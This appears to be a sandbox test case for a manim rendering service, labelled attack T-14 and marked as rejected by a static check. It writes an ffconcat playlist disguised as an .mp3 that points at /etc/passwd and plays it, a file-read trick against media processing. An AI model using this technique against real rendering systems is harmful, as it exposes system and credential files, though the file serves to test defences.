# attack: T-14
# what: Play a script that names other files.
# layer: no program to start
# static: rejected
# class: CODE_ERROR

from manim import *


class Attack(Scene):
    def construct(self):
        open("/job/work/x.mp3", "w").write("ffconcat version 1.0\nfile '/etc/passwd'\n")
        self.add_sound("x.mp3")
        self.wait(0.1)
